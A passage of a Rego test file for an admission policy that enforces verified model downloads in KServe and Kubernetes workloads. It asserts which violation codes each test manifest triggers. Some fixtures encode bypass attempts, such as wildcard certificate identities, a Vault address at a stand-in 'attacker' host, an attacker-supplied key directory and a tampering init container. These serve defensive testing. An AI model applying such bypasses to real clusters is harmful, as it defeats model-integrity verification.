	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005 predictor:AEGIS005"},"name":"storage-uris-and-spec"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"model":{"modelFormat":{"name":"sklearn"},"storage":{"key":"localMinIO","path":"sklearn/model.joblib"}},"storageUris":[{"mountPath":"/mnt/models/base","uri":"s3://a/base"}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"], ["predictor", "AEGIS005"]}
}

# params-verified-model / params-verified-model: InferenceService storage-uri-not-a-string
test_corpus_params_verified_model_storage_uri_not_a_string if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005"},"name":"storage-uri-not-a-string"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"model":{"storageUri":42},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"]}
}

# params-verified-model / params-verified-model: InferenceService storage-uri-null
test_corpus_params_verified_model_storage_uri_null if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"storage-uri-null"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"model":{"storage":null,"storageUri":null},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: InferenceService env-storage-uri
test_corpus_params_verified_model_env_storage_uri if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005 transformer:AEGIS005"},"name":"env-storage-uri"},"spec":{"predictor":{"containers":[{"env":[{"name":"STORAGE_URI","valueFrom":{"configMapKeyRef":{"key":"uri","name":"m"}}}],"image":"custom-server:1","name":"kserve-container"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]},"transformer":{"containers":[{"env":[{"name":"STORAGE_URI","value":"pvc://models/transformer"},{"name":"OTHER","value":"s3://x"}],"image":"transformer:1","name":"kserve-container"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"], ["transformer", "AEGIS005"]}
}

# params-verified-model / params-verified-model: InferenceService env-without-value
test_corpus_params_verified_model_env_without_value if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"env-without-value"},"spec":{"predictor":{"containers":[{"env":[{"name":"STORAGE_URI"}],"image":"s","name":"kserve-container"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: Pod pod-with-storage-initializer
test_corpus_params_verified_model_pod_with_storage_initializer if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS005"},"name":"pod-with-storage-initializer"},"spec":{"initContainers":[{"args":["gs://b/m","/mnt/models"],"image":"kserve/storage-initializer:v0.15.0","name":"storage-initializer"},{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS005"]}
}

# params-verified-model / params-verified-model: Deployment deployment-env
test_corpus_params_verified_model_deployment_env if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":""},"name":"deployment-env"},"spec":{"template":{"spec":{"containers":[{"env":[{"name":"STORAGE_URI","value":"gs://b/m"}],"image":"s","name":"s"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: LLMInferenceService llm-downloads
test_corpus_params_verified_model_llm_downloads if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"LLMInferenceService","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"LLMInferenceService","metadata":{"annotations":{"aegis.dev/expect":"template:AEGIS005 template:AEGIS005"},"name":"llm-downloads"},"spec":{"model":{"lora":{"adapters":[{"name":"a","uri":"s3://adapters/a"}]},"uri":"hf://Qwen/Qwen2.5-0.5B-Instruct"},"template":{"containers":[{"image":"vllm/vllm-openai:v0.8.4","name":"main"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["template", "AEGIS005"], ["template", "AEGIS005"]}
}

# params-verified-model / params-verified-model: LLMInferenceService llm-storage-initializer-disabled
test_corpus_params_verified_model_llm_storage_initializer_disabled if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"LLMInferenceService","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"LLMInferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"llm-storage-initializer-disabled"},"spec":{"model":{"uri":"s3://models/qwen"},"storageInitializer":{"enabled":false},"template":{"containers":[{"image":"vllm/vllm-openai:v0.8.4","name":"main"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: LLMInferenceService llm-enabled-string
test_corpus_params_verified_model_llm_enabled_string if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"LLMInferenceService","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"LLMInferenceService","metadata":{"annotations":{"aegis.dev/expect":"template:AEGIS005"},"name":"llm-enabled-string"},"spec":{"model":{"uri":"s3://models/qwen"},"storageInitializer":{"enabled":"false"},"template":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["template", "AEGIS005"]}
}

# params-verified-model / params-verified-model: TrainedModel trained-model
test_corpus_params_verified_model_trained_model if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"TrainedModel","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"TrainedModel","metadata":{"annotations":{"aegis.dev/expect":"AEGIS005"},"name":"trained-model"},"spec":{"inferenceService":"sklearn-mms","model":{"framework":"sklearn","memory":"256Mi","storageUri":"gs://kfserving-examples/models/sklearn/1.0/model"}}}}}
	corpus_ids(vs) == {["", "AEGIS005"]}
}

# params-verified-model / params-verified-model: TrainedModel trained-model-without-uri
test_corpus_params_verified_model_trained_model_without_uri if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"TrainedModel","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"TrainedModel","metadata":{"annotations":{"aegis.dev/expect":""},"name":"trained-model-without-uri"},"spec":{"inferenceService":"sklearn-mms","model":{"framework":"sklearn","memory":"256Mi"}}}}}
	corpus_ids(vs) == set()
}

# params-verified-model / params-verified-model: InferenceService unknown-framework
test_corpus_params_verified_model_unknown_framework if {
	vs := violation with input as {"parameters":{"requireVerifiedModel":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS005"},"name":"unknown-framework"},"spec":{"predictor":{"catboost":{"storageUri":"gs://kfserving-examples/models/catboost/iris"},"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"}]}],"nodeSelector":{"gpu":"true"},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS005"]}
}

# shipped-v3 / shipped-v3: Pod good
test_corpus_shipped_v3_good if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"good"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == set()
}

# shipped-v3 / shipped-v3: Pod identity-anyone
test_corpus_shipped_v3_identity_anyone if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008 AEGIS008 AEGIS008 AEGIS008","aegis.dev/render-error":"env AEGIS_CERTIFICATE_IDENTITY_REGEXP, but the constraint does not allow keyless verification"},"name":"identity-anyone"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/usr/share/aegis/sigstore/prod.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY_REGEXP","value":".*"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER_REGEXP","value":".*"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"], ["", "AEGIS008"], ["", "AEGIS008"], ["", "AEGIS008"]}
}

# shipped-v3 / shipped-v3: Pod root-flag
test_corpus_shipped_v3_root_flag if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008","aegis.dev/render-error":"argument --trusted-root=/usr/share/aegis/sigstore/prod.json, but the constraint does not allow keyless"},"name":"root-flag"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["--trusted-root=/usr/share/aegis/sigstore/prod.json","s3://models/resnet.tar.gz","/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# shipped-v3 / shipped-v3: Pod own-vault
test_corpus_shipped_v3_own_vault if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008","aegis.dev/render-error":"env VAULT_ADDR, but the constraint does not allow Vault verification"},"name":"own-vault"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"VAULT_ADDR","value":"http://vault.attacker.svc:8200"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# shipped-v3 / shipped-v3: Pod provenance-as-approval
test_corpus_shipped_v3_provenance_as_approval if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008","aegis.dev/render-error":"env AEGIS_PREDICATE_TYPES is not allowed on a locked verifier"},"name":"provenance-as-approval"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_PREDICATE_TYPES","value":"https://slsa.dev/provenance/v1"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# shipped-v3 / shipped-v3: Pod key-dir
test_corpus_shipped_v3_key_dir if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"--key /attacker is not under the key volume's mount"},"name":"key-dir"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"image":"busybox","name":"fill","volumeMounts":[{"mountPath":"/attacker","name":"attacker"}]},{"args":["--key=/attacker","s3://m/a.tgz","/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"},{"mountPath":"/attacker","name":"attacker","readOnly":true}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"attacker"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# shipped-v3 / shipped-v3: Pod version
test_corpus_shipped_v3_version if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"argument --version is not allowed on a locked verifier"},"name":"version"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["--version"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# shipped-v3 / shipped-v3: Pod tamper-after
test_corpus_shipped_v3_tamper_after if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"initContainer tamper mounts the model volume model writable"},"name":"tamper-after"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]},{"image":"busybox","name":"tamper","volumeMounts":[{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# shipped-v3 / shipped-v3: Pod elsewhere
test_corpus_shipped_v3_elsewhere if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","lockVerifier":true,"requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"mounts volume model writable at /srv, besides its model directory /models"},"name":"elsewhere"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/srv"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}
